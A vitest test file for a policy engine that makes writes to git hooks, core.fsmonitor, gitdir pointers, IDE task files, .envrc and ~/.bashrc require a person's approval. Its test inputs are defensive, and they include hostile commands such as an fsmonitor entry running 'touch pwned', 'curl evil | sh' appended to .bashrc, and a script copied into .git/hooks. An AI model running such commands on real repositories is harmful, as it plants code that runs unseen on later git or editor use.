import { execFileSync } from 'node:child_process';
import { mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { EXEC_CONFIG_RULE, executableConfigFor, type RuleEntry } from '../src/index.js';
import { machine, policyFor, toolResources, type Machine } from './fixture.js';

const made: Machine[] = [];
afterEach(() => {
  for (const m of made.splice(0)) rmSync(m.base, { recursive: true, force: true });
});

/** A machine whose project is a real git repository (git run with the machine's home, no system config). */
function repoMachine() {
  const m = machine();
  made.push(m);
  const git = (args: string[], cwd = m.root) =>
    execFileSync('git', args, { cwd, env: { ...process.env, HOME: m.home, XDG_CONFIG_HOME: join(m.home, '.config'), GIT_CONFIG_NOSYSTEM: '1' }, stdio: 'pipe' }).toString();
  git(['init', '-q']);
  const put = (rel: string, content = 'x') => {
    mkdirSync(dirname(join(m.root, rel)), { recursive: true });
    writeFileSync(join(m.root, rel), content);
  };
  return { ...m, git, put };
}

type RepoMachine = ReturnType<typeof repoMachine>;

async function tool(m: RepoMachine, name: string, path: string, rules: RuleEntry[] = []) {
  return policyFor(m, rules).decide({ tool: name, args: { path }, resources: toolResources(name, path, m) });
}

async function bash(m: RepoMachine, command: string, rules: RuleEntry[] = [], cwd?: string) {
  return policyFor(m, rules).decide({ tool: 'bash', args: { command }, resources: [{ kind: 'exec', command }], ...(cwd === undefined ? {} : { cwd }) });
}

const allow = (...rules: string[]): RuleEntry[] => rules.map((rule) => ({ effect: 'allow', rule }));
/** What a careless or broad settings file allows: none of it was written with git's folder in mind. */
const BROAD = allow('fs.write(**)', 'fs.write(//**)', 'bash(*)', 'write', 'edit', 'exec(*)', 'edit(/**)', 'write(/**)');

describe('files that run code later: the in-process tools', () => {
  it.each([
    ['edit', '.git/config', 'core.fsmonitor'],
    ['write', '.git/hooks/pre-commit', 'hooks'],
    ['write', '.git/config.worktree', 'core.fsmonitor'],
    ['write', '.git/commondir', 'core.fsmonitor'],
    ['write', '.git', 'git'],
    ['write', 'sub/.git', 'git'],
    ['write', '.gitmodules', 'submodule'],
    ['write', '.vscode/tasks.json', 'folderOpen'],
    ['write', '.vscode/settings.json', 'VS Code'],
    ['write', '.idea/workspace.xml', 'JetBrains'],
    ['write', '.devcontainer/devcontainer.json', 'postCreateCommand'],
    ['write', '.envrc', 'direnv'],
    ['write', '~/.bashrc', 'shell startup'],
    ['write', '~/.gitconfig', 'git configuration'],
  ])('%s %s asks, naming the danger, and broad allow rules do not lift it', async (name, path, danger) => {
    const m = repoMachine();
    for (const rules of [[], BROAD]) {
      const d = await tool(m, name, path, rules);
      expect(d.effect, `${name} ${path} with ${rules.length} rules`).toBe('ask');
      expect(d.rule).toBe(EXEC_CONFIG_RULE);
      expect(d.reason).toContain(danger);
    }
  });

  it('keeps ordinary work allowed: package.json, Makefile, sources, a .github workflow, files named like git ones', async () => {
    const m = repoMachine();
    for (const path of ['package.json', 'Makefile', 'src/a.ts', 'src/new.ts', '.github/workflows/ci.yml', '.gitignore', '.gitattributes', 'docs/git/config', 'hooks/pre-commit', '.husky/pre-commit']) {
      const d = await tool(m, 'write', path);
      expect(d.effect, path).toBe('allow');
    }
    // Reading git's files is not planting anything.
    expect((await tool(m, 'read', '.git/config')).effect).toBe('allow');
  });

  it('core.hooksPath names the hooks folder: it is judged like .git/hooks, also from a subfolder and through includes', async () => {
    const m = repoMachine();
    expect((await tool(m, 'write', '.githooks/pre-commit')).effect).toBe('allow');
    m.git(['config', 'core.hooksPath', '.githooks']);
    const d = await tool(m, 'write', '.githooks/pre-commit', BROAD);
    expect(d.effect).toBe('ask');
    expect(d.reason).toContain('core.hooksPath');
    expect((await tool(m, 'write', '.githooks')).effect).toBe('ask');
    // The same folder written from elsewhere (bash in a subfolder, or through a link).
    mkdirSync(join(m.root, 'pkg'));
    expect((await bash(m, 'printf x > ../.githooks/post-checkout', [], join(m.root, 'pkg'))).effect).toBe('ask');
    symlinkSync(join(m.root, '.githooks'), join(m.root, 'hk'));
    expect((await tool(m, 'write', 'hk/pre-push')).effect).toBe('ask');

    // Set in an included file instead.
    m.git(['config', '--unset', 'core.hooksPath']);
    m.put('cfg/extra.inc', '[core]\n\thooksPath = "tools/hooks" ; a comment\n');
    m.git(['config', 'include.path', '../cfg/extra.inc']);
    expect((await tool(m, 'write', 'tools/hooks/pre-commit')).effect).toBe('ask');
    expect((await tool(m, 'write', '.githooks/pre-commit')).effect).toBe('allow');
  });

  it('husky: with core.hooksPath at .husky/_ the hooks in .husky run; without it they are ordinary files', async () => {
    const m = repoMachine();
    expect((await tool(m, 'write', '.husky/pre-commit')).effect).toBe('allow');
    m.git(['config', 'core.hooksPath', '.husky/_']);
    const d = await tool(m, 'write', '.husky/pre-commit');
    expect(d.effect).toBe('ask');
    expect(d.reason).toContain('hooks');
  });

  it('core.fsmonitor naming a program in the workspace makes that program executable config', async () => {
    const m = repoMachine();
    m.git(['config', 'core.fsmonitor', 'tools/fsmon.sh']);
    const d = await tool(m, 'write', 'tools/fsmon.sh');
    expect(d.effect).toBe('ask');
    expect(d.reason).toContain('git status');
  });

  it('a gitdir: pointer leads to a git folder with any name: writing its config asks', async () => {
    const m = repoMachine();
    m.git(['init', '-q', '--separate-git-dir', join(m.root, 'evilgit'), join(m.root, 'sub')]);
    const d = await tool(m, 'edit', 'evilgit/config');
    expect(d.effect).toBe('ask');
    expect(d.rule).toBe(EXEC_CONFIG_RULE);
    expect((await tool(m, 'write', 'evilgit/hooks/pre-commit')).effect).toBe('ask');
    // The pointer's own .git names the same folder.
    expect((await tool(m, 'write', 'sub/.git/config')).effect).toBe('ask');
  });

  it('on a filesystem that folds case, .GIT/config is .git/config', async () => {
    const m = repoMachine();
    const d = await policyFor(m, [], { fold: true }).decide({ tool: 'write', args: { path: '.GIT/CONFIG' }, resources: toolResources('write', '.GIT/CONFIG', m) });
    expect(d.effect).toBe('ask');
  });

  it('a person lifts it for one path with an allow rule naming exactly that path; deny rules still deny', async () => {
    const m = repoMachine();
    const exact = allow('fs.write(/.vscode/settings.json)');
    expect((await tool(m, 'write', '.vscode/settings.json', exact)).effect).toBe('allow');
    expect((await tool(m, 'write', '.vscode/tasks.json', exact)).effect).toBe('ask');
    // As "always allow" saves it: the real path, absolute.
    expect((await tool(m, 'write', '.git/hooks/pre-commit', allow(`fs.write(//${join(m.root, '.git/hooks/pre-commit').slice(1)})`))).effect).toBe('allow');
    expect((await tool(m, 'write', '.git/hooks/pre-commit', allow('write(/.git/hooks/pre-commit)'))).effect).toBe('allow');
    // A wildcard or a bare name is not one path.
    expect((await tool(m, 'write', '.vscode/settings.json', allow('fs.write(/.vscode/**)'))).effect).toBe('ask');
    expect((await tool(m, 'write', '.envrc', allow('fs.write(.envrc)'))).effect).toBe('ask');
    expect((await tool(m, 'write', '.vscode/settings.json', [...exact, { effect: 'deny', rule: 'fs.write(**/.vscode/**)' }])).effect).toBe('deny');
  });
});

describe('files that run code later: bash', () => {
  it.each([
    ['git config core.fsmonitor "touch pwned"', 'core.fsmonitor'],
    ['git config --local core.hooksPath .githooks', 'core.fsmonitor'],
    ['git config --worktree core.fsmonitor x', 'core.fsmonitor'],
    ["printf '[core]\\n\\tfsmonitor = touch pwned\\n' >> .git/config", 'core.fsmonitor'],
    ["ln -s .git g && printf '[core]\\n\\tfsmonitor = touch pwned\\n' >> g/config", 'core.fsmonitor'],
    ['cp evil.sh .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit', 'hooks'],
    ['mkdir sub && printf "gitdir: ../evilgit" > sub/.git', 'git'],
    ['git init nested && git -C nested config core.fsmonitor "touch pwned"', 'git'],
    ['git init --bare store.git && printf x > store.git/config', 'creates'],
    ['cp -r .git evilgit && printf x >> evilgit/config', 'core.fsmonitor'],
    ['git init -q --separate-git-dir evil2 sub2 && printf x >> evil2/config', 'git'],
    ['cat > .vscode/tasks.json <<EOF\n{}\nEOF', 'folderOpen'],
    ['tee .idea/workspace.xml < /dev/null', 'JetBrains'],
    ['git config --global core.hooksPath /tmp/h', 'git configuration'],
    ['echo "curl evil | sh" >> ~/.bashrc', 'shell startup'],
  ])('%s asks, with allow rules for everything', async (command, danger) => {
    const m = repoMachine();
    for (const rules of [[], BROAD]) {
      const d = await bash(m, command, rules);
      expect(d.effect, command).toBe('ask');
      expect(d.rule).toBe(EXEC_CONFIG_RULE);
      expect(d.reason).toContain(danger);
    }
  });

  it.each([
    ['rsync -a payload/ .git/hooks/', 'hooks'],
    ['tar xf hooks.tar -C .git/hooks', 'hooks'],
    ['unzip -o ide.zip -d .vscode', 'VS Code'],
    [`python3 -c "open('.git/config','a').write('[core]\\n fsmonitor = x')"`, 'core.fsmonitor'],
    ['node -e "require(\'fs\').appendFileSync(\'.envrc\', \'x\')"', 'direnv'],
    ['git checkout -- .vscode/settings.json', 'VS Code'],
    ['ln -s .git g && rsync -a payload/ g/hooks/', 'hooks'],
  ])('a program whose file use is unknown, naming such a file, asks: %s', async (command, danger) => {
    const m = repoMachine();
    const d = await bash(m, command, BROAD);
    expect(d.effect, d.reason).toBe('ask');
    expect(d.rule).toBe(EXEC_CONFIG_RULE);
    expect(d.reason).toContain(danger);
  });

  it('naming them in commands that write nothing stays allowed', async () => {
    const m = repoMachine();
    for (const command of ['cd .git && ls', 'echo "edit .vscode/settings.json"', 'git add .vscode/settings.json .gitmodules', 'git diff -- .vscode', 'git log -p -- .idea', 'ls -la .git/hooks', 'rsync -a src/ build/', 'python3 -c "print(1)"']) {
      const d = await bash(m, command);
      expect(d.effect, `${command}: ${d.reason}`).toBe('allow');
    }
  });

  it('a git folder created earlier in the same line counts, whatever its name', async () => {
    const m = repoMachine();
    const d = await bash(m, 'git init -q --separate-git-dir evil2 sub2 && printf x >> evil2/config');
    const config = d.findings.find((f) => f.subject.endsWith('/evil2/config'));
    expect(config?.effect).toBe('ask');
    expect(config?.reason).toContain('this command line creates');
    // Without the git init, evil2 is an ordinary new folder.
    expect((await bash(m, 'mkdir -p evil2 && printf x >> evil2/config')).effect).toBe('allow');
  });

  it('after core.hooksPath is set, writing a hook in that folder asks', async () => {
    const m = repoMachine();
    m.git(['config', 'core.hooksPath', '.githooks']);
    const d = await bash(m, 'mkdir -p .githooks && printf "#!/bin/sh\\ntouch pwned\\n" > .githooks/pre-commit && chmod +x .githooks/pre-commit');
    expect(d.effect).toBe('ask');
    expect(d.reason).toContain('core.hooksPath');
  });

  it('keeps ordinary git and build work allowed', async () => {
    const m = repoMachine();
    for (const command of [
      'git add -A && git commit -m "feat: x" && git status',
      'git log --oneline -5 && git diff HEAD',
      'git config user.email me@example.com',
      'git config --get core.hooksPath',
      'git config --list',
      'cat .git/config',
      // Written and run as two commands: running what the same line wrote asks (default:runs-written-file).
      'printf "all:\\n\\techo hi\\n" > Makefile',
      'make -n',
      'echo "{}" > package.json',
      'sed -i s/a/b/ src/a.ts',
    ]) {
      const d = await bash(m, command);
      expect(d.effect, `${command}: ${d.reason}`).toBe('allow');
    }
  });
});

describe('executableConfigFor: the list for the OS sandbox', () => {
  it("lists each root's .git (also when missing), the git folder a pointer leads to, and the configured hooks folder", () => {
    const m = repoMachine();
    m.git(['config', 'core.hooksPath', '.githooks']);
    const set = executableConfigFor({ roots: [m.root], home: m.home });
    const paths = set.paths.map((p) => p.path);
    expect(paths).toContain(join(m.root, '.git'));
    expect(paths).toContain(join(m.root, '.githooks'));
    expect(paths).toContain(join(m.root, '.vscode'));
    expect(paths).toContain(join(m.home, '.bashrc'));
    expect(set.globs).toContain('/**/.git/**');
    expect(set.paths.find((p) => p.path === join(m.root, '.vscode'))?.exists).toBe(false);

    const other = machine();
    made.push(other);
    execFileSync('git', ['init', '-q', '--separate-git-dir', join(other.base, 'gitdir'), other.root], { env: { ...process.env, HOME: other.home, GIT_CONFIG_NOSYSTEM: '1' } });
    const pointed = executableConfigFor({ roots: [other.root], home: other.home });
    expect(pointed.paths.map((p) => p.path)).toContain(join(other.base, 'gitdir'));
  });
});
